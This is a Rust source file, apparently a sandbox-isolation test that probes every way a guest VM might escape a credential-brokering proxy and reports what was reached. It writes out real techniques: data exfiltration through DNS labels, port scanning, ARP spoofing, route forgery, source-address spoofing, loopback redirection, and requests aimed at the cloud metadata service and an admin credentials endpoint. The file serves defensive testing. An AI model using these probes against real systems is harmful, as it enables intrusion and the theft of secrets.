//! Every way out that root of a guest can think of, and the one that is permitted.

use crate::plan::Plan;
use crate::raw::{listen, ping, ping_all_ipv6, spoof};
use crate::{busybox, ip, report, say};
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, TcpStream, UdpSocket};
use std::sync::Mutex;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_millis(1500);
/// A call through the broker takes a while where everything is emulated.
const CALL: Duration = Duration::from_secs(20);
const LISTENER: u16 = 8480;
const LINK: u16 = 8482;
const CONSOLE: u16 = 8481;

/// What was reached, if anything.
type Try<'a> = Box<dyn FnOnce() -> Option<String> + Send + 'a>;

/// Makes them all, those that do not disturb each other at once.
pub(crate) fn all(plan: &Plan) {
    let at_once: Vec<(&str, Try<'_>)> = vec![
        ("capture", Box::new(|| strangers(plan))),
        ("tcp by address", Box::new(|| tcp(plan.destination.into()))),
        ("udp", Box::new(|| udp(plan.datagrams, b"data"))),
        ("dns at the broker", Box::new(|| dns(plan.broker))),
        ("dns elsewhere", Box::new(|| dns(Ipv4Addr::new(10, 0, 2, 3)))),
        ("ping elsewhere", Box::new(|| ping(*plan.destination.ip()).then(|| "an echo".into()))),
        ("ping the broker", Box::new(|| ping(plan.broker).then(|| "an echo".into()))),
        ("ports of the broker", Box::new(|| scan(plan.broker))),
        ("other addresses of the broker", Box::new(|| others(plan))),
        ("arp for other addresses", Box::new(|| arp(plan))),
        ("disks", Box::new(disks)),
    ];
    std::thread::scope(|scope| {
        for (name, body) in at_once {
            scope.spawn(move || report(name, body()));
        }
    });
    report("ipv6", ipv6());
    report("spoofed source", spoofed(plan));
    report("route through the broker", forged_route(plan));
    report("address of an operator", as_operator(plan));
    report("loopback of the broker", loopback(plan));
    say(&format!("CALL permitted: {}", permitted(plan)));
    for (name, target) in through(plan) {
        say(&format!("CALL {name}: {}", call(plan, &target, true)));
    }
    say(&format!("CALL without a key: {}", call(plan, &path_of(plan), false)));
    say(&format!("CALL tunnel elsewhere: {}", tunnel(plan, &plan.datagrams.to_string())));
}

/// One more round: the permitted call, and what must never work.
pub(crate) fn round(plan: &Plan) -> String {
    let _ = UdpSocket::bind("0.0.0.0:0").and_then(|socket| socket.send_to(b"round", plan.datagrams));
    spoof(Ipv4Addr::new(10, 0, 2, 15), plan.datagrams, b"spoofed");
    let direct = tcp(plan.destination.into()).map_or("closed", |_| "REACHED");
    format!("call={} direct={direct}", permitted_within(plan, Duration::from_secs(3)))
}

fn tcp(to: SocketAddr) -> Option<String> {
    TcpStream::connect_timeout(&to, PATIENCE).ok().map(|_| to.to_string())
}

fn udp(to: SocketAddrV4, payload: &[u8]) -> Option<String> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.set_read_timeout(Some(PATIENCE)).ok()?;
    socket.send_to(payload, to).ok()?;
    let (length, from) = socket.recv_from(&mut [0; 1500]).ok()?;
    Some(format!("{length} bytes from {from}"))
}

/// A question whose name would carry data out.
fn dns(server: Ipv4Addr) -> Option<String> {
    let mut question = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["c3RvbGVu", "example", "com"] {
        question.push(label.len() as u8);
        question.extend(label.bytes());
    }
    question.extend([0, 0, 1, 0, 1]);
    udp(SocketAddrV4::new(server, 53), &question)
}

/// Open ports but the listener's.
fn scan(broker: Ipv4Addr) -> Option<String> {
    let ports: Vec<u16> =
        (1..=1024).chain([2375, 3306, 5432, 6379, 9090, 10250]).chain(8000..=8999).collect();
    let next = Mutex::new(ports.into_iter().filter(|port| *port != LISTENER));
    let open = Mutex::new(Vec::new());
    std::thread::scope(|scope| {
        for _ in 0..16 {
            scope.spawn(|| {
                loop {
                    let Some(port) = next.lock().unwrap().next() else { return };
                    if tcp((broker, port).into()).is_some() {
                        open.lock().unwrap().push(port);
                    }
                }
            });
        }
    });
    let open = open.into_inner().unwrap();
    (!open.is_empty()).then(|| format!("{open:?}"))
}

fn others(plan: &Plan) -> Option<String> {
    let found = plan.others.iter().flat_map(|other| {
        [22, 80, LISTENER, CONSOLE, LINK].into_iter().filter_map(|port| tcp((*other, port).into()))
    });
    let found: Vec<String> = found.collect();
    (!found.is_empty()).then(|| found.join(", "))
}

/// Whether the broker says on this wire that addresses of its other wires are here.
fn arp(plan: &Plan) -> Option<String> {
    let asked = plan.others.iter().chain([plan.destination.ip()]);
    let answered =
        asked.filter(|other| busybox(&["arping", "-c", "1", "-w", "1", "-I", "eth0", &other.to_string()]));
    let answered: Vec<String> = answered.map(ToString::to_string).collect();
    (!answered.is_empty()).then(|| answered.join(", "))
}

fn disks() -> Option<String> {
    let names = std::fs::read_dir("/sys/block").ok()?.flatten().map(|entry| entry.file_name());
    let names: Vec<String> = names.map(|name| name.to_string_lossy().into_owned()).collect();
    let real: Vec<_> = names
        .into_iter()
        .filter(|name| !["ram", "loop", "zram"].iter().any(|kind| name.starts_with(kind)))
        .collect();
    (!real.is_empty()).then(|| real.join(", "))
}

fn ipv6() -> Option<String> {
    ip(&["-6", "addr", "add", "2001:db8:77::2/64", "dev", "eth0"]);
    ip(&["-6", "route", "add", "default", "dev", "eth0"]);
    let index = std::fs::read_to_string("/sys/class/net/eth0/ifindex").ok()?.trim().parse().ok()?;
    if ping_all_ipv6(index) {
        return Some("a neighbour".into());
    }
    tcp("[2001:db8:78::2]:443".parse().ok()?)
}

/// Nobody answers a lie; whether it got anywhere, those who record know.
fn spoofed(plan: &Plan) -> Option<String> {
    for other in &plan.others {
        spoof(*other, plan.datagrams, b"spoofed");
        spoof(Ipv4Addr::LOCALHOST, SocketAddrV4::new(*other, LINK), b"spoofed");
    }
    None
}

/// The broker's hardware address as next hop for the world, whatever it says by ARP.
fn forged_route(plan: &Plan) -> Option<String> {
    let hop = "10.77.0.254";
    busybox(&["arp", "-i", "eth0", "-s", hop, &plan.card]);
    for other in plan.others.iter().chain([plan.destination.ip()]) {
        ip(&["route", "add", &format!("{other}/32"), "via", hop, "dev", "eth0"]);
    }
    tcp(plan.destination.into()).or_else(|| udp(plan.datagrams, b"data")).or_else(|| others(plan))
}

/// An address of the operators' network, and the broker's hardware address for its end of that.
fn as_operator(plan: &Plan) -> Option<String> {
    let link = plan.others.last()?;
    ip(&["addr", "add", "10.79.0.77/24", "dev", "eth0"]);
    busybox(&["arp", "-i", "eth0", "-s", &link.to_string(), &plan.card]);
    let found = tcp((*link, LINK).into());
    ip(&["addr", "del", "10.79.0.77/24", "dev", "eth0"]);
    found
}

/// 127.0.0.1 as if it were on the wire.
fn loopback(plan: &Plan) -> Option<String> {
    for file in ["all", "eth0"] {
        let _ = std::fs::write(format!("/proc/sys/net/ipv4/conf/{file}/route_localnet"), "1");
    }
    ip(&["route", "del", "local", "127.0.0.0/8", "dev", "lo", "table", "local"]);
    ip(&["route", "del", "local", "127.0.0.1", "dev", "lo", "table", "local"]);
    ip(&["route", "add", "127.0.0.0/8", "via", &plan.broker.to_string(), "dev", "eth0"]);
    tcp(SocketAddr::new(IpAddr::V4(Ipv4Addr::LOCALHOST), CONSOLE))
}

/// Senders on the wire that are neither this machine nor the broker.
fn strangers(plan: &Plan) -> Option<String> {
    let own = std::fs::read_to_string("/sys/class/net/eth0/address").unwrap_or_default();
    let senders = listen(Duration::from_secs(4));
    let strangers: Vec<String> =
        senders.into_iter().filter(|sender| *sender != plan.card && sender != own.trim()).collect();
    (!strangers.is_empty()).then(|| strangers.join(", "))
}

/// Base-URL targets that no permit names.
fn through(plan: &Plan) -> Vec<(&'static str, String)> {
    let mut targets = vec![
        ("another path", format!("/to/{}/admin", plan.destination)),
        ("another port", format!("/to/{}/v1/items/1", plan.datagrams)),
        ("metadata service", "/to/169.254.169.254/latest/meta-data".into()),
        ("console of the broker", format!("/to/127.0.0.1:{CONSOLE}/")),
        ("admin interface", "/api/v1/credentials".into()),
    ];
    targets.extend(plan.others.last().map(|link| ("link of operators", format!("/to/{link}:{LINK}/"))));
    targets
}

fn path_of(plan: &Plan) -> String {
    format!("/to/{}/v1/items/{}", plan.destination, next_number())
}

fn next_number() -> u32 {
    static NUMBER: AtomicU32 = AtomicU32::new(1);
    NUMBER.fetch_add(1, Ordering::Relaxed)
}

/// `200 echoed` where the reply names the placeholder: the destination echoes what it got.
fn permitted(plan: &Plan) -> String {
    permitted_within(plan, CALL)
}

fn permitted_within(plan: &Plan, patience: Duration) -> String {
    let answer = ask(plan, &request(plan, "GET", &path_of(plan), true), patience);
    let echoed = answer.contains(&plan.placeholder);
    format!("{}{}", status(&answer), if echoed { " echoed" } else { "" })
}

fn call(plan: &Plan, target: &str, with_key: bool) -> String {
    status(&ask(plan, &request(plan, "GET", target, with_key), CALL))
}

fn tunnel(plan: &Plan, authority: &str) -> String {
    let basic = format!("Proxy-Authorization: Bearer {}\r\n", plan.key);
    status(&ask(plan, &format!("CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{basic}\r\n"), CALL))
}

fn request(plan: &Plan, method: &str, target: &str, with_key: bool) -> String {
    let key = if with_key { format!("Cloakroom-Workload: {}\r\n", plan.key) } else { String::new() };
    format!(
        "{method} {target} HTTP/1.1\r\nHost: {}:{LISTENER}\r\n{key}Authorization: Bearer {}\r\nConnection: close\r\n\r\n",
        plan.broker, plan.placeholder
    )
}

fn ask(plan: &Plan, request: &str, patience: Duration) -> String {
    let answer = || -> std::io::Result<String> {
        let mut stream = TcpStream::connect_timeout(&(plan.broker, LISTENER).into(), patience)?;
        stream.set_read_timeout(Some(patience))?;
        stream.write_all(request.as_bytes())?;
        let mut answer = Vec::new();
        let _ = stream.take(64 * 1024).read_to_end(&mut answer);
        Ok(String::from_utf8_lossy(&answer).into_owned())
    };
    answer().unwrap_or_default()
}

fn status(answer: &str) -> String {
    answer.strip_prefix("HTTP/1.1 ").and_then(|rest| rest.get(..3)).unwrap_or("none").to_owned()
}
